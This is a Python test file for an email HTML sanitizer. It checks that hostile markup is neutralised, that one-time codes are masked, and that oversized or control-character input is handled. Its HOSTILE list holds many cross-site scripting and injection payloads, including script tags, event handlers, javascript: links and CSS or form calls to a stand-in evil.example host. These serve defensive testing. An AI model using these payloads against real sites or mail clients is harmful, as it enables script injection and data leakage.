"""A letter's HTML, made harmless: hostile first."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from triage.core.codes import blot_of
from triage.edges.harmless import DEEPEST, LARGEST, harmless

BLOT = blot_of((), widely=False)
TAG = re.compile(r"<(/?)([a-z][a-z0-9]*)((?: [a-z]+=\"[^\"<>]*\")*)>")
ATTRIBUTES = {"style", "dir", "hidden", "colspan", "rowspan", "start"}


def shown(markup: str) -> str:
    made = harmless(markup, BLOT)
    assert made is not None
    return made.html


def assert_inert(page: str) -> None:
    """Every tag is of the few that only lay words out, and so is every attribute."""
    rest = TAG.sub("", page)
    assert "<" not in rest
    for _, name, attributes in TAG.findall(page):
        assert name not in {"a", "img", "script", "style", "form", "iframe", "svg"}
        named = dict(re.findall(r" ([a-z]+)=\"([^\"]*)\"", attributes))
        assert named.keys() <= ATTRIBUTES
        assert not re.search(r"url|expression|import|[\\@(]", named.get("style", ""))


HOSTILE = [
    "<script>alert(1)</script>",
    "<p onclick=alert(1) onmouseover='x'>z</p>",
    "<img src=http://evil.example/p.gif onerror=alert(1)>",
    "<img srcset='http://evil.example/a 1x' alt='x\" onload=1'>",
    "<div style=\"background:url('http://evil.example/x')\">z</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>z</div>",
    "<div style='text-align:center;background-image:url(//evil.example)'>z</div>",
    "<div style='display:none;-moz-binding:url(x)'>z</div>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>z",
    "<link rel=stylesheet href=http://evil.example/x.css>z",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>z",
    "<base href=http://evil.example/>z",
    "<form action=http://evil.example><input name=a value=b><button>c</button></form>",
    "<iframe src=http://evil.example srcdoc='<script>1</script>'></iframe>z",
    "<object data=http://evil.example></object><embed src=http://evil.example>z",
    "<a href='javascript:alert(1)'>z</a>",
    "<a href='  java\nscript:alert(1)'>z</a>",
    "<a href='data:text/html,<script>1</script>'>z</a>",
    "<a href='https://x.example/\"><script>alert(1)</script>'>z</a>",
    "<a href=https://x.example ping=http://evil.example target=_top>z</a>",
    "<svg><script>1</script><a xlink:href='javascript:1'><text>z</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>z",
    "<video poster=http://evil.example><source src=http://evil.example></video>z",
    "<table background=http://evil.example><td background=http://evil.example>z",
    "<p><!-- > <img src=http://evil.example> -->z</p>",
    "<plaintext>z<script>",
    "<textarea><script>alert(1)</script></textarea>z",
    "<template><img src=x></template>z",
    "<b><p></b><i></p></b></i></a></table></div>z",
    "<p id=w name=style class=card>z</p>",
    "<td colspan=9999999 rowspan=-1>z",
    "<address>z</address><abbr>z</abbr><article>z</article>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<p>z<",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>z",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_what_is_hostile_loses_its_teeth(markup):
    assert_inert(shown(markup))


PIECES = st.sampled_from(
    [
        *HOSTILE,
        "<",
        ">",
        '"',
        "'",
        "=",
        "<a ",
        "<p ",
        "style=",
        "x",
        "</",
        "<!--",
        "&#60;",
    ]
)


@given(st.lists(PIECES, max_size=8).map("".join))
@settings(max_examples=300, deadline=None)
def test_so_does_any_mixture(markup):
    made = harmless(markup, BLOT)

    if made is not None:
        assert_inert(made.html)
        assert all(not re.search(r"[\s<>\"']", link) for link in made.links)


def test_a_link_keeps_its_words_and_tells_its_address_as_text():
    made = harmless(
        '<p><a href="https://shop.example/o?x=1&y=2">Заказ</a> и '
        '<a href="https://shop.example/o?x=1&y=2">он же</a>, <a>пусто</a></p>',
        BLOT,
        first=3,
    )

    assert made.html == (
        "<p><span>Заказ</span><sup>[3]</sup> и <span>он же</span><sup>[3]</sup>,"
        " <span>пусто</span></p>"
    )
    assert made.links == ("https://shop.example/o?x=1&y=2",)


def test_a_picture_leaves_the_words_that_stand_for_it():
    assert shown('<img src="cid:1" alt="Чайник">') == "<span>[Чайник]</span>"
    assert shown('<img src="cid:1">') == ""


def test_what_the_letter_hid_stays_hidden_and_colours_go():
    made = shown(
        '<div style="color:#fff;display:none !important">скрыто</div>'
        '<p style="background:#005bff;color:white;font-weight:bold">видно</p>'
    )

    assert 'style="display:none"' in made
    assert 'style="font-weight:bold"' in made
    assert "color" not in made


@pytest.mark.parametrize(
    "markup",
    [
        "Код для получения: <b>4821</b>",
        "Код: <span>48</span><span>21</span>",
        "<table><tr><td>Код получения</td><td width=20>4821-77</td></tr></table>",
        "<p>Код</p><p>4821</p><p>79991234567</p>",
        "Код&nbsp;получения: 48&nbsp;21",
        "Ваш пароль: 4\u200b8\u200b2\u200b1",
        "<b>К</b>од: 4821",
        '<img alt="код 4821">',
    ],
)
def test_a_code_is_dotted_out_however_it_is_cut_apart(markup):
    words = re.sub(r"<[^>]*>|\s", "", shown(f"<div>{markup}</div>"))

    assert "•" in words
    assert "4821" not in words


def test_sums_and_numbers_of_orders_stay():
    text = "Заказ 12345678-0001, к возврату 12 490,00 ₽ до 5 декабря 2026"

    assert shown(f"<p>{text}</p>") == f"<p>{text}</p>"


@pytest.mark.parametrize(
    "markup",
    [
        "x" * (LARGEST + 1),
        "<div>" * (DEEPEST + 1),
        "<b><p>" * DEEPEST,
        "<table>" * 100_000,
    ],
)
def test_what_is_too_large_or_too_deep_is_not_taken_apart(markup):
    started = time.process_time()

    assert harmless(markup, BLOT) is None
    assert time.process_time() - started < 2


@pytest.mark.parametrize(
    "markup",
    [
        "<p " + " ".join(f"a{n}=1" for n in range(40_000)) + ">z",
        "</p>" * 120_000,
        "<table>" * 20 + "<b></b></a><p></p></b>" * 20_000,
        "<a href=https://x.example/>z</a>" * 10_000,
    ],
    ids=["attributes", "closings", "misnested", "links"],
)
def test_what_is_made_to_take_long_ends_in_time(markup):
    started = time.process_time()

    assert_inert(shown(markup[:LARGEST]))
    assert time.process_time() - started < 5


@given(st.text(max_size=60))
def test_nothing_unprintable_is_left_whichever_way_it_was_written(text):
    """No escape for a terminal, no turned or hidden letters, nothing a parser stumbles at."""
    written = "".join(f"&#{ord(char)};" for char in text if char not in "<>&")
    for page in (shown(f"<p>{written}</p>"), shown(text.replace("<", ""))):
        assert all(c in "\n\t\xa0" or c.isprintable() or c.isspace() for c in page)
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", page)


def test_controls_and_tag_characters_go_and_words_stay():
    odd = "\x1b[31mкра\x07сн\x9bый\U000e0041\ue000\u2028 \x85\x0bчайник\u202e"

    assert shown(f"<p>{odd}</p>") == "<p>[31mкрасный чайник</p>"
